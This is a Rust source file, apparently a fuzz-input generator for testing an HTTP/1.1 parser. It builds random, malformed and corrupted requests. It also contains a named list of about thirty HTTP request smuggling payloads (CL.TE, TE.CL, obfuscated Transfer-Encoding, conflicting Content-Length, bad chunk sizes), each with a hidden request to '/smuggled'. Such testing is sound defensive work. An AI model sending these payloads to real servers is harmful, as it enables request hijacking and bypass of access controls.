//! In:     a seed.
//! Out:    a byte stream of one to three requests, each of parts that are sound, odd or broken.
//! Actors: none.
//! Never:  does a stream depend on anything but its seed.

/// Attacks by name, each with a request to `/smuggled` behind the first.
pub(crate) const LISTED: &[&str] = &[
    // CL.TE and TE.CL, plain and with the coding hidden.
    "POST / HTTP/1.1\r\nHost: a\r\nContent-Length: 44\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /smuggled HTTP/1.1\r\nHost: a\r\n\r\n",
    "POST / HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\nContent-Length: 4\r\n\r\n0\r\n\r\nGET /smuggled HTTP/1.1\r\nHost: a\r\n\r\n",
    "POST / HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: xchunked\r\nContent-Length: 0\r\n\r\nGET /smuggled HTTP/1.1\r\nHost: a\r\n\r\n",
    "POST / HTTP/1.1\r\nHost: a\r\nTransfer-Encoding : chunked\r\nContent-Length: 0\r\n\r\nGET /smuggled HTTP/1.1\r\nHost: a\r\n\r\n",
    "POST / HTTP/1.1\r\nHost: a\r\nTransfer-Encoding:\u{b}chunked\r\nContent-Length: 0\r\n\r\nGET /smuggled HTTP/1.1\r\nHost: a\r\n\r\n",
    "POST / HTTP/1.1\r\nHost: a\r\n Transfer-Encoding: chunked\r\nContent-Length: 0\r\n\r\nGET /smuggled HTTP/1.1\r\nHost: a\r\n\r\n",
    "POST / HTTP/1.1\r\nHost: a\r\nX: y\r\n Transfer-Encoding: chunked\r\nContent-Length: 0\r\n\r\nGET /smuggled HTTP/1.1\r\nHost: a\r\n\r\n",
    "POST / HTTP/1.1\r\nHost: a\r\nX: y\nTransfer-Encoding: chunked\r\nContent-Length: 0\r\n\r\nGET /smuggled HTTP/1.1\r\nHost: a\r\n\r\n",
    "POST / HTTP/1.1\r\nHost: a\r\nX: y\rTransfer-Encoding: chunked\r\nContent-Length: 0\r\n\r\nGET /smuggled HTTP/1.1\r\nHost: a\r\n\r\n",
    "POST / HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n\r\n0\r\n\r\nGET /smuggled HTTP/1.1\r\nHost: a\r\n\r\n",
    "POST / HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked, identity\r\n\r\n0\r\n\r\nGET /smuggled HTTP/1.1\r\nHost: a\r\n\r\n",
    "POST / HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked, chunked\r\n\r\n0\r\n\r\nGET /smuggled HTTP/1.1\r\nHost: a\r\n\r\n",
    "POST / HTTP/1.0\r\nHost: a\r\nConnection: keep-alive\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /smuggled HTTP/1.1\r\nHost: a\r\n\r\n",
    // Lengths that two readers take for different ones.
    "POST / HTTP/1.1\r\nHost: a\r\nContent-Length: 0\r\nContent-Length: 36\r\n\r\nGET /smuggled HTTP/1.1\r\nHost: a\r\n\r\n",
    "POST / HTTP/1.1\r\nHost: a\r\nContent-Length: 0, 36\r\n\r\nGET /smuggled HTTP/1.1\r\nHost: a\r\n\r\n",
    "POST / HTTP/1.1\r\nHost: a\r\nContent-Length: +0\r\n\r\nGET /smuggled HTTP/1.1\r\nHost: a\r\n\r\n",
    "POST / HTTP/1.1\r\nHost: a\r\nContent-Length: 0x24\r\n\r\nGET /smuggled HTTP/1.1\r\nHost: a\r\n\r\n",
    "POST / HTTP/1.1\r\nHost: a\r\nContent-Length: 18446744073709551616\r\n\r\nGET /smuggled HTTP/1.1\r\nHost: a\r\n\r\n",
    "POST / HTTP/1.1\r\nHost: a\r\nContent_Length: 36\r\n\r\nGET /smuggled HTTP/1.1\r\nHost: a\r\n\r\n",
    // Chunks that two readers end at different places.
    "POST / HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\n0_2\r\nab\r\n0\r\n\r\nGET /smuggled HTTP/1.1\r\nHost: a\r\n\r\n",
    "POST / HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\n0x2\r\nab\r\n0\r\n\r\nGET /smuggled HTTP/1.1\r\nHost: a\r\n\r\n",
    "POST / HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\n-1\r\nab\r\n0\r\n\r\nGET /smuggled HTTP/1.1\r\nHost: a\r\n\r\n",
    "POST / HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\n2;a\nb\r\nab\r\n0\r\n\r\nGET /smuggled HTTP/1.1\r\nHost: a\r\n\r\n",
    "POST / HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\n2\r\nabXX0\r\n\r\nGET /smuggled HTTP/1.1\r\nHost: a\r\n\r\n",
    "POST / HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\n10000000000000002\r\nab\r\n0\r\n\r\nGET /smuggled HTTP/1.1\r\nHost: a\r\n\r\n",
    "POST / HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n: bad\r\n\r\nGET /smuggled HTTP/1.1\r\nHost: a\r\n\r\n",
    // Request lines and hosts.
    "GET / HTTP/1.1\r\nHost: a\r\nHost: b\r\n\r\nGET /smuggled HTTP/1.1\r\nHost: a\r\n\r\n",
    "GET /  HTTP/1.1\r\nHost: a\r\n\r\nGET /smuggled HTTP/1.1\r\nHost: a\r\n\r\n",
    "GET\t/ HTTP/1.1\r\nHost: a\r\n\r\nGET /smuggled HTTP/1.1\r\nHost: a\r\n\r\n",
    "GET / HTTP/1.1 \r\nHost: a\r\n\r\nGET /smuggled HTTP/1.1\r\nHost: a\r\n\r\n",
    "GET / HTTP/1.2\r\nHost: a@b\r\n\r\nGET /smuggled HTTP/1.1\r\nHost: a\r\n\r\n",
];

struct Dice(u64);

impl Dice {
    fn roll(&mut self, below: u64) -> u64 {
        self.0 = self.0.wrapping_mul(6_364_136_223_846_793_005).wrapping_add(1_442_695_040_888_963_407);
        (self.0 >> 33) % below
    }

    fn pick<'a>(&mut self, list: &[&'a str]) -> &'a str {
        list[self.roll(list.len() as u64) as usize]
    }

    /// The first of a list most of the time.
    fn mostly<'a>(&mut self, list: &[&'a str]) -> &'a str {
        if self.roll(16) > 0 { list[0] } else { self.pick(list) }
    }
}

/// The stream of a seed.
pub(crate) fn by_chance(seed: u64) -> Vec<u8> {
    let mut dice = Dice(seed.wrapping_mul(0x9e37_79b9_7f4a_7c15));
    let mut stream = Vec::new();
    for _ in 0..1 + dice.roll(3) {
        put_request(&mut dice, &mut stream);
    }
    // Now and then a byte is another one, missing, or there twice.
    for _ in 0..dice.roll(8).saturating_sub(5) {
        let at = dice.roll(stream.len() as u64) as usize;
        match dice.roll(3) {
            0 => stream[at] = *b"\0\r\n\t :;,\x7f\xff0aZ".get(dice.roll(13) as usize).unwrap(),
            1 => drop(stream.remove(at)),
            _ => stream.insert(at, stream[at]),
        }
    }
    stream
}

fn put_request(dice: &mut Dice, stream: &mut Vec<u8>) {
    let method = dice.mostly(&["GET", "POST", "PUT", "OPTIONS", "get", "M-SEARCH", "PO ST", ""]);
    let target =
        dice.mostly(&["/a?b=c", "/", "/%41", "/%4", "http://h/x", "*", "a", "//", "/a b", "/\u{e9}", "/a#b", ""]);
    let version = dice.mostly(&["HTTP/1.1", "HTTP/1.0", "HTTP/1.2", "HTTP/2.0", "http/1.1", "HTTP/1.1 ", "HTTP/01.1"]);
    let mut head = format!("{method} {target} {version}");
    let end = dice.mostly(&["\r\n", "\r\n", "\r\n", "\n", "\r", "\r\r\n"]);
    head += end;
    let host = dice.mostly(&["Host: h", "Host: h:80", "Host:h", "Host: ", "Host: a\r\nHost: a", "Host: a@b", "X: y"]);
    head += &format!("{host}\r\n");
    for _ in 0..dice.roll(3) {
        let line = dice.mostly(&[
            "Accept: */*",
            "X: y",
            "X:y",
            "X : y",
            " X: y",
            "X: y\r\n z",
            "X y",
            ": y",
            "X:",
            "X: \t y \t",
            "X-\u{e9}: y",
            "Connection: close",
            "Connection: keep-alive",
            "Expect: 100-continue",
            "Expect: coffee",
            "Cookie: a=b; c=d",
            "X: a\0b",
            "X: a\x7fb",
            "Content-Type: a/b",
            "Content-Type: a/b\r\nContent-Type: c/d",
            "Content_Length: 3",
        ]);
        head += &format!("{line}\r\n");
    }
    let (framing, body) = match dice.roll(6) {
        0..=1 => ("", ""),
        2..=3 => dice_pair(dice, LENGTHS),
        _ => dice_pair(dice, CHUNKS),
    };
    stream.extend_from_slice(head.as_bytes());
    stream.extend_from_slice(framing.as_bytes());
    stream.extend_from_slice(dice.mostly(&["\r\n", "\r\n", "\r\n", "\n", "\r\n\r\n"]).as_bytes());
    stream.extend_from_slice(body.as_bytes());
}

fn dice_pair<'a>(dice: &mut Dice, list: &[(&'a str, &'a str)]) -> (&'a str, &'a str) {
    if dice.roll(5) > 0 { list[0] } else { list[dice.roll(list.len() as u64) as usize] }
}

const LENGTHS: &[(&str, &str)] = &[
    ("Content-Length: 3\r\n", "abc"),
    ("Content-Length: 0\r\n", ""),
    ("Content-Length: 003\r\n", "abc"),
    ("Content-Length: 5\r\n", "abc"),
    ("Content-Length: 2\r\n", "abc"),
    ("Content-Length: +3\r\n", "abc"),
    ("Content-Length: -3\r\n", "abc"),
    ("Content-Length: 3 \r\n", "abc"),
    ("Content-Length: 3, 3\r\n", "abc"),
    ("Content-Length: 3\r\nContent-Length: 3\r\n", "abc"),
    ("Content-Length: 3\r\nContent-Length: 4\r\n", "abcd"),
    ("Content-Length:\r\n", ""),
    ("Content-Length: 99999999999999999999\r\n", "abc"),
    ("Content-Length : 3\r\n", "abc"),
];

const CHUNKS: &[(&str, &str)] = &[
    ("Transfer-Encoding: chunked\r\n", "3\r\nabc\r\n0\r\n\r\n"),
    ("Transfer-Encoding: Chunked\r\n", "0003;x=y\r\nabc\r\n0\r\n\r\n"),
    ("Transfer-Encoding: chunked\r\n", "3;x=\"a;b\"\r\nabc\r\n0\r\nX: trailer\r\n\r\n"),
    ("Transfer-Encoding: chunked\r\n", "A\r\n0123456789\r\n0\r\n\r\n"),
    ("Transfer-Encoding: chunked\r\n", "3\nabc\r\n0\r\n\r\n"),
    ("Transfer-Encoding: chunked\r\n", "3\r\nabc0\r\n\r\n"),
    ("Transfer-Encoding: chunked\r\n", "3 \r\nabc\r\n0\r\n\r\n"),
    ("Transfer-Encoding: chunked\r\n", "3;\r\nabc\r\n0\r\n\r\n"),
    ("Transfer-Encoding: chunked\r\n", "g\r\nabc\r\n0\r\n\r\n"),
    ("Transfer-Encoding: chunked\r\n", "fffffffffffffffff\r\nabc\r\n0\r\n\r\n"),
    ("Transfer-Encoding: chunked\r\n", "3\r\nabc\r\n0\r\nContent-Length: 5\r\n\r\n"),
    ("Transfer-Encoding: chunked\r\n", "3\r\nabc\r\n0\r\n"),
    ("Transfer-Encoding: gzip, chunked\r\n", "3\r\nabc\r\n0\r\n\r\n"),
    ("Transfer-Encoding: chunked, gzip\r\n", "3\r\nabc\r\n0\r\n\r\n"),
    ("Transfer-Encoding: identity\r\n", "abc"),
    ("Transfer-Encoding: chunked\r\nContent-Length: 3\r\n", "3\r\nabc\r\n0\r\n\r\n"),
    ("Content-Length: 3\r\nTransfer-Encoding: chunked\r\n", "3\r\nabc\r\n0\r\n\r\n"),
    ("Transfer-Encoding: chunked\r\nTransfer-Encoding: chunked\r\n", "3\r\nabc\r\n0\r\n\r\n"),
];
